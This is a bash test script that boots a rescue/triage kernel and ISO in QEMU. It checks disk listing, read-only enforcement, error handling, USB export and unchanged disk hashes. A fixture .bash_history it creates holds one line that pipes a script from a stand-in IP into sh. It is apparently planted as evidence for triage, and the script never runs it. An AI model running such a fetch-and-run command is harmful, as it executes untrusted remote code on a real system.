#!/bin/bash
# boot-test.sh - boot the rescue kernel + initramfs (and the ISO) in QEMU
#
# Usage: scripts/boot-test.sh [--expect STRING]... [--no-iso] [--no-uefi]
#                             [--only CASE,...] [--logs DIR] [DISK.img...]
#
# Disk images (raw) are attached read-only: the 1st as virtio-blk (/dev/vda),
# the 2nd as NVMe (/dev/nvme0n1), any further ones as AHCI SATA (/dev/sdX,
# snapshot=on because QEMU's SATA disks refuse readonly=on). With no DISK, two
# small ext4 images are made in a temporary directory (a root fs whose
# /etc/hostname is web01, checked unless --expect is given, and a GPT disk
# with /home).
#
# Cases (one line each: "ok - CASE" / "not ok - CASE", then "N passed, N failed";
# the exit status is non-zero when one failed):
#   auto triage     kernel boot, rescue.auto=triage rescue.poweroff=1: the
#                   disk list holds every disk, read-only, the result line
#                   "rescue: triage finished, status N" and every --expect
#                   STRING are on the console, then "rescue: powering off"
#   menu + shell    kernel boot without options: the menu is drawn, the shell
#                   (item 3) shows blockdev --getro = 1 for every disk and
#                   partition (the virtio disk is guest-writable there, so this
#                   tests BLKROSET, not QEMU), item 5 powers off
#   no disks        auto triage with no disk: "rescue: no disks found", power off
#   unreadable disk a virtio disk whose every read fails (blkdebug): a clear
#                   "CANNOT BE READ" note and the result line, power off
#   export          rescue.export=LABEL=RESCUE_EXP with a USB stick (xhci +
#                   usb-storage, a GPT partition with ext4): the stick is left
#                   out of the evidence, "rescue: export finished, status 0|1",
#                   and the partition holds rescue-*.tar.zst afterwards
#   iso bios/uefi   the ISO's default entry (menu on ttyS0) with the first disk
#                   attached: menu, 2 (triage: result line + --expect), 5
#   iso usb         the ISO as a USB stick (BIOS): the stick is recognised as
#                   the boot medium and left out of the evidence, menu, 5
# After every case the SHA-256 of every disk image must be unchanged. A kernel
# panic also ends QEMU with status 0: success is decided on the console lines.
#
# Environment: KERNEL (initramfs/vmlinuz), INITRD (initramfs/rescue-initramfs.cpio.gz),
# ISO (initramfs/rescue.iso), BOOT_TIMEOUT (120 s per boot), QEMU_SMP (2).
set -u

ROOT=$(cd "$(dirname "$0")/.." && pwd)
KERNEL=${KERNEL:-$ROOT/initramfs/vmlinuz}
INITRD=${INITRD:-$ROOT/initramfs/rescue-initramfs.cpio.gz}
ISO=${ISO:-$ROOT/initramfs/rescue.iso}
BOOT_TIMEOUT=${BOOT_TIMEOUT:-120}
QEMU_SMP=${QEMU_SMP:-2}

EXPECT=()
DISKS=()
DO_ISO=1
DO_UEFI=1
LOGS=
ONLY=
while [ $# -gt 0 ]; do
	case $1 in
	--expect)	EXPECT+=("$2"); shift 2 ;;
	--expect=*)	EXPECT+=("${1#*=}"); shift ;;
	--no-iso)	DO_ISO=0; shift ;;
	--no-uefi)	DO_UEFI=0; shift ;;
	--logs)		LOGS=$2; shift 2 ;;
	--only)		ONLY=",$2,"; shift 2 ;;	# auto,menu,nodisk,unreadable,export,iso-bios,iso-uefi,iso-usb
	-h|--help)	sed -n '2,/^set -u/p' "$0" | sed 's/^# \{0,1\}//;/^set -u/d'; exit 0 ;;
	-*)		echo "boot-test.sh: unknown option $1" >&2; exit 2 ;;
	*)		DISKS+=("$(readlink -f "$1")"); shift ;;
	esac
done

need_pkgs() { sh "$(dirname "$0")/deps.sh" --pkgs "$@"; }
need_pkgs qemu-system-x86 e2fsprogs fdisk coreutils
[ "$DO_UEFI" = 1 ] && [ "$DO_ISO" = 1 ] && need_pkgs ovmf

for f in "$KERNEL" "$INITRD"; do
	[ -f "$f" ] || { echo "boot-test.sh: $f missing (make initramfs)" >&2; exit 2; }
done
if [ "$DO_ISO" = 1 ] && [ ! -f "$ISO" ]; then
	echo "boot-test.sh: $ISO missing (make iso, or --no-iso)" >&2; exit 2
fi

WORK=$(mktemp -d "${TMPDIR:-/tmp}/boot-test.XXXXXX")
cleanup() {
	local j
	for j in $(jobs -p); do kill "$j" 2>/dev/null; done
	if [ -n "$LOGS" ]; then
		mkdir -p "$LOGS" && cp "$WORK"/*.log "$LOGS"/ 2>/dev/null
	fi
	rm -rf "$WORK"
}
trap cleanup EXIT

# ---- test disks -------------------------------------------------------------
make_default_disks() {
	local t=$WORK/tree
	mkdir -p "$t/root/etc" "$t/root/home" "$t/root/var/log" "$t/home/alice"
	echo web01 >"$t/root/etc/hostname"
	printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n' >"$t/root/etc/os-release"
	printf 'LABEL=root / ext4 defaults 0 1\nLABEL=home /home ext4 defaults 0 2\n' >"$t/root/etc/fstab"
	printf 'id\ncurl -fsSL http://203.0.113.9/x.sh | sh\n' >"$t/home/alice/.bash_history"
	mkfs.ext4 -q -F -L root -d "$t/root" "$WORK/disk1.img" 64M >/dev/null
	truncate -s 34M "$WORK/disk2.img"
	echo 'start=2048, size=65536, type=L' | sfdisk -q --label gpt "$WORK/disk2.img" >/dev/null
	mkfs.ext4 -q -F -L home -E offset=1048576 -d "$t/home" "$WORK/disk2.img" 32M >/dev/null
	DISKS=("$WORK/disk1.img" "$WORK/disk2.img")
}
if [ ${#DISKS[@]} -eq 0 ]; then
	make_default_disks
	# the root fs says web01: /bin/rescue really read the disks in the guest
	[ ${#EXPECT[@]} -eq 0 ] && EXPECT=(web01)
fi
for d in "${DISKS[@]}"; do
	[ -f "$d" ] || { echo "boot-test.sh: $d: no such image" >&2; exit 2; }
done

declare -A SUM
for d in "${DISKS[@]}"; do SUM[$d]=$(sha256sum <"$d"); done

# QEMU options for the disks: $1 = readonly|snapshot for the virtio disk
disk_args() {
	local i=0 d mode=$1 a=()
	for d in "${DISKS[@]}"; do
		case $i in
		0) if [ "$mode" = snapshot ]; then
			a+=(-drive "file=$d,if=none,id=d0,format=raw,snapshot=on")
		   else
			a+=(-drive "file=$d,if=none,id=d0,format=raw,readonly=on")
		   fi
		   a+=(-device "virtio-blk-pci,drive=d0") ;;
		1) a+=(-drive "file=$d,if=none,id=d1,format=raw,readonly=on"
		       -device "nvme,drive=d1,serial=rescue-nvme1") ;;
		*) a+=(-drive "file=$d,if=none,id=d$i,format=raw,snapshot=on"
		       -device "ide-hd,drive=d$i,bus=ide.$((i - 2))") ;;
		esac
		i=$((i + 1))
	done
	printf '%s\n' "${a[@]}"
}

QEMU_BASE=(qemu-system-x86_64 -machine q35 -accel tcg -m 512 -smp "$QEMU_SMP"
	-nodefaults -display none -no-reboot -serial stdio)
KAPPEND="console=ttyS0,115200 panic=-1"

PASS=0 FAIL=0 SKIP=0
verdict() {	# case-name log why (empty: passed; "SKIP reason": skipped)
	if [ "${3#SKIP }" != "$3" ]; then
		SKIP=$((SKIP + 1)); echo "ok - $1 (${ELAPSED}s) # SKIP ${3#SKIP }"
	elif [ -z "$3" ]; then
		PASS=$((PASS + 1)); echo "ok - $1 (${ELAPSED}s)"
	else
		FAIL=$((FAIL + 1)); echo "not ok - $1 (${ELAPSED}s): $3"
		echo "# last console lines ($2):"
		tr -d '\r' <"$2" | grep -v '^$' | tail -n 25 | sed 's/^/#   /'
	fi
}
has_line() {	# LOG ERE: a console line matches
	tr -d '\r' <"$1" | grep -qE -- "$2"
}

# ---- running QEMU with a scripted serial console ------------------------------
# start_qemu LOG ARGS...: QEMU in the background, its serial console in LOG,
# its keyboard a FIFO on fd 3
start_qemu() {
	local log=$1; shift
	rm -f "$WORK/in"; mkfifo "$WORK/in"
	exec 3<>"$WORK/in"
	timeout "$BOOT_TIMEOUT" "$@" <&3 >"$log" 2>&1 &
	QPID=$!
	T0=$(date +%s)
}
# wait_for LOG STRING [COUNT]: until the console shows STRING COUNT times;
# fails when QEMU ends first
wait_for() {
	local n=${3:-1}
	while :; do
		[ "$(tr -d '\r' <"$1" | grep -cF -- "$2")" -ge "$n" ] && return 0
		kill -0 "$QPID" 2>/dev/null || {
			[ "$(tr -d '\r' <"$1" | grep -cF -- "$2")" -ge "$n" ]; return; }
		sleep 0.5
	done
}
type_line() { printf '%s\r' "$1" >&3; }
finish_qemu() { wait "$QPID" 2>/dev/null; QST=$?; exec 3>&-; ELAPSED=$(($(date +%s) - T0)); }

# check_common LOG: the things every case must satisfy; prints the failure
check_common() {
	local log=$1 d
	if grep -q 'Kernel panic' "$log"; then echo "kernel panic"; return 1; fi
	if [ "$QST" = 124 ]; then echo "timed out after ${BOOT_TIMEOUT}s"; return 1; fi
	if ! grep -q 'rescue: powering off' "$log"; then echo "no 'rescue: powering off'"; return 1; fi
	for d in "${DISKS[@]}"; do
		if [ "$(sha256sum <"$d")" != "${SUM[$d]}" ]; then echo "$d CHANGED (SHA-256)"; return 1; fi
	done
	return 0
}
check_expect() {
	local log=$1 e
	for e in "${EXPECT[@]}"; do
		tr -d '\r' <"$log" | grep -qF -- "$e" || { echo "'$e' not on the console"; return 1; }
	done
	return 0
}
check_result_line() {
	tr -d '\r' <"$1" | grep -qE '^rescue: triage finished, status [0-9]+' ||
	    { echo "no 'rescue: triage finished, status N' line"; return 1; }
}
check_disk_list() {	# every attached disk listed (vda, nvme0n1, sda...)
	local log=$1 n=${#DISKS[@]} name i=0
	tr -d '\r' <"$log" | grep -q "^rescue: $n disk(s), all read-only:" ||
	    { echo "no 'rescue: $n disk(s), all read-only:' line"; return 1; }
	for name in vda nvme0n1; do
		[ $i -lt "$n" ] || break
		tr -d '\r' <"$log" | grep -qE "^ +/dev/$name " || { echo "/dev/$name not in the disk list"; return 1; }
		i=$((i + 1))
	done
}

# ---- cases ------------------------------------------------------------------
case_auto() {
	local name="auto triage: kernel boot, virtio + NVMe" log=$WORK/auto.log why
	# shellcheck disable=SC2046
	start_qemu "$log" "${QEMU_BASE[@]}" -kernel "$KERNEL" -initrd "$INITRD" \
	    -append "rescue.auto=triage rescue.poweroff=1 $KAPPEND" \
	    $(disk_args readonly)
	finish_qemu
	why=$(check_common "$log" && check_disk_list "$log" &&
	    check_result_line "$log" && check_expect "$log")
	verdict "$name" "$log" "$why"
}

case_menu() {
	local name="menu + shell: every disk and partition read-only (BLKROSET)" log=$WORK/menu.log why bad
	# shellcheck disable=SC2046
	start_qemu "$log" "${QEMU_BASE[@]}" -kernel "$KERNEL" -initrd "$INITRD" \
	    -append "$KAPPEND" $(disk_args snapshot)
	why=
	if wait_for "$log" 'Choice [1-5' 1; then
		type_line 3
		if wait_for "$log" 'rescue# ' 1; then
			type_line 'for b in /sys/class/block/*; do n=${b##*/}; echo "ROCHK $n $(blockdev --getro /dev/$n)"; done; exit'
			wait_for "$log" 'Choice [1-5' 2 && type_line 5
		else
			why="no shell prompt"
		fi
	else
		why="menu not drawn"
	fi
	finish_qemu
	if [ -z "$why" ]; then
		bad=$(tr -d '\r' <"$log" | grep -E '^ROCHK (vd|nvme|sd)' | grep -v ' 1$')
		if ! has_line "$log" '^ROCHK vda 1$'; then
			why="no 'ROCHK vda 1' (blockdev --getro) line"
		elif [ ${#DISKS[@]} -ge 2 ] && ! has_line "$log" '^ROCHK nvme0n1 1$'; then
			why="no 'ROCHK nvme0n1 1' line"
		elif [ -n "$bad" ]; then
			why="not read-only: $(echo "$bad" | tr '\n' ' ')"
		elif ! has_line "$log" '^  5  power off'; then
			why="menu incomplete"
		fi
	fi
	[ -n "$why" ] || why=$(check_common "$log")
	verdict "$name" "$log" "$why"
}

case_nodisk() {
	local name="no disks: message, then power off" log=$WORK/nodisk.log why
	start_qemu "$log" "${QEMU_BASE[@]}" -kernel "$KERNEL" -initrd "$INITRD" \
	    -append "rescue.auto=triage rescue.poweroff=1 $KAPPEND"
	finish_qemu
	why=$(check_common "$log" && { has_line "$log" '^rescue: no disks found' ||
	    echo "no 'rescue: no disks found'"; })
	verdict "$name" "$log" "$why"
}

case_unreadable() {
	local name="unreadable disk: clear message, result line, power off" log=$WORK/unreadable.log why
	start_qemu "$log" "${QEMU_BASE[@]}" -kernel "$KERNEL" -initrd "$INITRD" \
	    -append "rescue.auto=triage rescue.poweroff=1 $KAPPEND" \
	    -blockdev "{\"driver\":\"raw\",\"node-name\":\"bad\",\"read-only\":true,\"file\":{\"driver\":\"blkdebug\",\"inject-error\":[{\"event\":\"read_aio\",\"errno\":5}],\"image\":{\"driver\":\"file\",\"filename\":\"${DISKS[0]}\",\"read-only\":true}}}" \
	    -device virtio-blk-pci,drive=bad
	finish_qemu
	why=$(check_common "$log" && check_result_line "$log" &&
	    { has_line "$log" 'CANNOT BE READ' || echo "no 'CANNOT BE READ' note"; })
	verdict "$name" "$log" "$why"
}

case_export() {
	local name="export: to a USB stick by LABEL=, evidence untouched" log=$WORK/export.log why ls
	local ex=$WORK/export.img
	truncate -s 64M "$ex"
	echo 'start=2048, type=L' | sfdisk -q --label gpt "$ex" >/dev/null
	mkfs.ext4 -q -F -L RESCUE_EXP -E offset=1048576 "$ex" 60M
	start_qemu "$log" "${QEMU_BASE[@]}" -kernel "$KERNEL" -initrd "$INITRD" \
	    -append "rescue.auto=triage rescue.export=LABEL=RESCUE_EXP rescue.poweroff=1 $KAPPEND" \
	    -drive "file=${DISKS[0]},if=none,id=d0,format=raw,readonly=on" -device virtio-blk-pci,drive=d0 \
	    -device qemu-xhci,id=xhci -drive "file=$ex,if=none,id=ex,format=raw" \
	    -device usb-storage,bus=xhci.0,drive=ex
	finish_qemu
	why=$(check_common "$log" &&
	    { has_line "$log" '^rescue: 1 disk\(s\), all read-only:' ||
	      echo "the export stick is in the evidence list"; } &&
	    { has_line "$log" '^rescue: export finished, status [01]:' ||
	      echo "no 'rescue: export finished, status 0|1' line"; })
	# /init did its part, but this rescue has no export command (yet)
	if [ -n "$why" ] && has_line "$log" "^rescue: 'export' is not a command"; then
		why="SKIP /bin/rescue has no 'export' command"
	fi
	if [ -z "$why" ]; then
		ls=$(debugfs -R 'ls -l /' "$ex?offset=1048576" 2>/dev/null)
		echo "$ls" | grep -qE 'rescue-[0-9TZ]+\.tar\.zst' ||
		    why="no rescue-*.tar.zst on the stick: $(echo "$ls" | tr -s ' \n' ' ')"
	fi
	verdict "$name" "$log" "$why"
}

case_iso() {	# $1 bios|uefi
	local name="iso $1: grub default entry, menu, triage, power off" log=$WORK/iso-$1.log why fw=()
	if [ "$1" = uefi ]; then
		cp /usr/share/OVMF/OVMF_VARS_4M.fd "$WORK/vars.fd"
		fw=(-drive "if=pflash,format=raw,unit=0,readonly=on,file=/usr/share/OVMF/OVMF_CODE_4M.fd"
		    -drive "if=pflash,format=raw,unit=1,file=$WORK/vars.fd")
	fi
	start_qemu "$log" "${QEMU_BASE[@]}" "${fw[@]}" -vga std \
	    -drive "file=$ISO,if=none,id=cd,format=raw,media=cdrom,readonly=on" \
	    -device ide-cd,drive=cd,bus=ide.2,bootindex=0 \
	    -drive "file=${DISKS[0]},if=none,id=d0,format=raw,readonly=on" \
	    -device virtio-blk-pci,drive=d0,bootindex=1
	why=
	if wait_for "$log" 'Choice [1-5' 1; then
		type_line 2
		if wait_for "$log" 'rescue: triage finished' 1; then
			wait_for "$log" 'Choice [1-5' 2 && type_line 5
		else
			why="triage did not finish"
		fi
	else
		why="menu not drawn"
	fi
	finish_qemu
	[ -n "$why" ] || why=$(check_common "$log" && check_result_line "$log" && check_expect "$log")
	verdict "$name" "$log" "$why"
}

case_iso_usb() {
	local name="iso usb: hybrid ISO as a USB stick, left out as the boot medium" log=$WORK/iso-usb.log why
	start_qemu "$log" "${QEMU_BASE[@]}" -vga std -device qemu-xhci,id=xhci \
	    -drive "file=$ISO,if=none,id=st,format=raw,readonly=on" \
	    -device usb-storage,bus=xhci.0,drive=st,bootindex=0 \
	    -drive "file=${DISKS[0]},if=none,id=d0,format=raw,readonly=on" \
	    -device virtio-blk-pci,drive=d0,bootindex=1
	why=
	if wait_for "$log" 'Choice [1-5' 1; then
		type_line 5
	else
		why="menu not drawn"
	fi
	finish_qemu
	[ -n "$why" ] || why=$(check_common "$log" &&
	    { has_line "$log" '^ +note: /dev/sd[a-z]+: the rescue boot medium, left out' ||
	      echo "the stick was not recognised as the boot medium"; } &&
	    { has_line "$log" '^rescue: 1 disk\(s\), all read-only:' ||
	      echo "not exactly the one evidence disk listed"; })
	verdict "$name" "$log" "$why"
}

echo "# kernel $KERNEL, initramfs $INITRD ($(stat -c %s "$INITRD") bytes)"
echo "# disks: ${DISKS[*]}"
want() { [ -z "$ONLY" ] || case $ONLY in *",$1,"*) true ;; *) false ;; esac; }
want auto && case_auto
want menu && case_menu
want nodisk && case_nodisk
want unreadable && case_unreadable
want export && case_export
if [ "$DO_ISO" = 1 ]; then
	want iso-bios && case_iso bios
	if [ "$DO_UEFI" = 1 ] && [ -f /usr/share/OVMF/OVMF_CODE_4M.fd ]; then
		want iso-uefi && case_iso uefi
	fi
	want iso-usb && case_iso_usb
fi
[ -n "$LOGS" ] && echo "# console logs in $LOGS"
if [ "$SKIP" -gt 0 ]; then
	echo "$PASS passed, $FAIL failed, $SKIP skipped"
else
	echo "$PASS passed, $FAIL failed"
fi
[ "$FAIL" = 0 ]
